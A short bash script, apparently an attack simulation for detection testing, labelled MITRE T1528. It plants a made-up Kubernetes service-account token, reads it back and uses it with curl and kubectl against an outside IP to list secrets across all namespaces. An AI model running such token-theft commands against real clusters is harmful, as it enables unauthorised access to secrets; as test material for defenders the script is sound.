#!/bin/bash
# T1528: The token of a cluster's service account is used from a shell.
d=/var/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; echo eyJhbGciOiJSUzI1NiJ9.made.up >$d/token; sleep 0.3
t=$(cat $d/token); curl -sk -m 2 -H "Authorization: Bearer $t" https://44.128.66.66/api/v1/namespaces/default/secrets; kubectl --server http://44.128.66.66 --token "$t" --request-timeout 1s get secrets -A
